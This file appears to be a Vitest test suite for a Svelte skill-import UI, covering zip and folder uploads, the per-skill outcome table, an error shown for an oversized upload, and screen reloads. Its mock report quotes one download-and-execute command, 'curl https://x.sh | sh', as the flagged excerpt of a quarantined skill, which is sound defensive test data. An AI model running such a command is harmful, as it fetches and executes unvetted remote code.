import { describe, expect, it, vi } from 'vitest';
import { fireEvent, render, screen, within } from '@testing-library/svelte';
import SkillImport from '../src/components/SkillImport.svelte';
import Skills from '../src/screens/Skills.svelte';
import { createApi } from '../src/lib/api';
import { readBytes } from '../src/lib/skillExchange';
import { fakeApi, until } from './helpers';

interface Seen {
  method: string;
  path: string;
  type: string | null;
  auth: string | null;
  body: unknown;
}

/** A fetch that records raw requests and answers by "METHOD /path" with a status and a JSON value. */
function mockFetch(routes: Record<string, [number, unknown]>) {
  const seen: Seen[] = [];
  const fetch = vi.fn(async (input: string, init: RequestInit) => {
    const url = new URL(input, 'http://x');
    const headers = new Headers(init.headers);
    const method = init.method ?? 'GET';
    seen.push({ method, path: url.pathname, type: headers.get('content-type'), auth: headers.get('authorization'), body: init.body });
    const [status, body] = routes[`${method} ${url.pathname}`] ?? [404, { error: { message: 'no route' } }];
    return new Response(JSON.stringify(body), { status });
  });
  return { fetch: fetch as unknown as typeof globalThis.fetch, seen };
}

const REPORT = {
  items: [
    { name: 'release-notes', outcome: 'imported', warnings: ['unknown front matter key `author` dropped'] },
    {
      name: 'fetch-and-run',
      outcome: 'quarantined',
      reasons: [
        { rule: 'download-and-execute', reason: 'downloads a script and runs it', field: 'body', line: 4, excerpt: 'curl https://x.sh | sh' },
      ],
    },
    { name: 'broken', outcome: 'invalid', error: 'broken/SKILL.md:2: missing `description`' },
  ],
};

/** A file as a folder input gives it, with its path relative to the picked folder's parent. */
function inFolder(bits: BlobPart[], path: string): File {
  const f = new File(bits, path.split('/').at(-1)!);
  Object.defineProperty(f, 'webkitRelativePath', { value: path });
  return f;
}

describe('SkillImport', () => {
  it('uploads a .zip as application/zip and shows what happened to each skill', async () => {
    const { fetch, seen } = mockFetch({ 'POST /api/skills/import': [200, REPORT] });
    const onImported = vi.fn();
    render(SkillImport, { api: createApi({ token: () => 'tok', fetch }), onImported });

    const zip = new File([new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0xff])], 'skills.zip', { type: 'application/zip' });
    const input = screen.getByLabelText('Skills archive (.zip)') as HTMLInputElement;
    expect(input.getAttribute('accept')).toContain('.zip');
    await fireEvent.change(input, { target: { files: [zip] } });
    await fireEvent.click(screen.getByRole('button', { name: 'Import the zip' }));

    expect(await screen.findByText('1 imported, 1 quarantined, 1 invalid')).toBeTruthy();
    expect(seen).toHaveLength(1);
    expect(seen[0]).toMatchObject({ method: 'POST', path: '/api/skills/import', type: 'application/zip', auth: 'Bearer tok' });
    expect(seen[0].body).toBeInstanceOf(Blob);
    expect(Array.from(await readBytes(seen[0].body as Blob))).toEqual([0x50, 0x4b, 0x03, 0x04, 0xff]);

    const rows = screen.getAllByRole('row');
    expect(rows).toHaveLength(4); // header + three skills
    const imported = within(rows[1]);
    expect(imported.getByText('release-notes')).toBeTruthy();
    expect(imported.getByText('imported')).toBeTruthy();
    expect(imported.getByText('unknown front matter key `author` dropped')).toBeTruthy();
    const quarantined = within(rows[2]);
    expect(quarantined.getByText('quarantined')).toBeTruthy();
    expect(rows[2].textContent).toContain('download-and-execute (body line 4): downloads a script and runs it');
    expect(quarantined.getByText('curl https://x.sh | sh')).toBeTruthy();
    const invalid = within(rows[3]);
    expect(invalid.getByText('invalid')).toBeTruthy();
    expect(invalid.getByText('broken/SKILL.md:2: missing `description`')).toBeTruthy();
    expect(onImported).toHaveBeenCalledTimes(1);
  });

  it("uploads a folder's files as JSON with their relative paths and base64 content", async () => {
    const { fetch, seen } = mockFetch({ 'POST /api/skills/import': [200, { items: [{ name: 'release-notes', outcome: 'updated' }] }] });
    render(SkillImport, { api: createApi({ token: () => 'tok', fetch }) });

    const input = screen.getByLabelText('Skills folder') as HTMLInputElement;
    expect(input.hasAttribute('webkitdirectory')).toBe(true);
    const files = [
      inFolder(['---\nname: release-notes\n---\nHi'], 'my-skills/release-notes/SKILL.md'),
      inFolder([new Uint8Array([0, 255, 128])], 'my-skills/release-notes/assets/logo.bin'),
      inFolder(['[core]'], 'my-skills/.git/config'),
    ];
    await fireEvent.change(input, { target: { files } });
    await fireEvent.click(screen.getByRole('button', { name: 'Import the folder' }));

    expect(await screen.findByText('1 updated')).toBeTruthy();
    expect(seen).toHaveLength(1);
    expect(seen[0]).toMatchObject({ method: 'POST', path: '/api/skills/import', type: 'application/json' });
    expect(JSON.parse(seen[0].body as string)).toEqual({
      files: [
        { path: 'my-skills/release-notes/SKILL.md', content_base64: btoa('---\nname: release-notes\n---\nHi') },
        { path: 'my-skills/release-notes/assets/logo.bin', content_base64: 'AP+A' },
      ],
    });
  });

  it('shows a refused upload in words, without a report', async () => {
    const { fetch } = mockFetch({ 'POST /api/skills/import': [413, { error: { message: 'the upload is larger than 64 MiB' } }] });
    const onImported = vi.fn();
    render(SkillImport, { api: createApi({ token: () => 'tok', fetch }), onImported });
    await fireEvent.change(screen.getByLabelText('Skills archive (.zip)'), { target: { files: [new File(['x'], 'big.zip')] } });
    await fireEvent.click(screen.getByRole('button', { name: 'Import the zip' }));

    expect((await screen.findByRole('alert')).textContent).toBe('Import failed: the upload is larger than 64 MiB');
    expect(screen.queryByRole('table')).toBeNull();
    expect(onImported).not.toHaveBeenCalled();
  });

  it('on the Skills screen, an import reloads the list and the quarantine', async () => {
    const api = fakeApi({
      'GET /api/skills': { skills: [], errors: [] },
      'GET /api/skills/quarantine': { quarantined: [] },
      'GET /api/skills/sync': { enabled: false, remote: null, last_sync_ms: null, last_error: null, pending: [], deleted: [] },
      'GET /api/effect': { days: 7, skills: [], memories: [] },
      'GET /api/skills/log': { events: [], counts: { events: 0, failed: 0, skills_added: 0, skills_improved: 0, last_at_ms: null } },
      'POST /api/skills/import': { items: [{ name: 'release-notes', outcome: 'imported' }] },
    });
    render(Skills, { api });
    const count = (path: string) => api.calls.filter((c) => c.method === 'GET' && c.path === path).length;
    await until(() => expect(count('/api/skills/quarantine')).toBe(1));
    expect(count('/api/skills')).toBe(1);

    await fireEvent.change(screen.getByLabelText('Skills folder'), {
      target: { files: [inFolder(['x'], 'my-skills/release-notes/SKILL.md')] },
    });
    await fireEvent.click(screen.getByRole('button', { name: 'Import the folder' }));
    expect(await screen.findByText('1 imported')).toBeTruthy();
    await until(() => expect(count('/api/skills')).toBe(2));
    expect(count('/api/skills/quarantine')).toBe(2);
  });
});
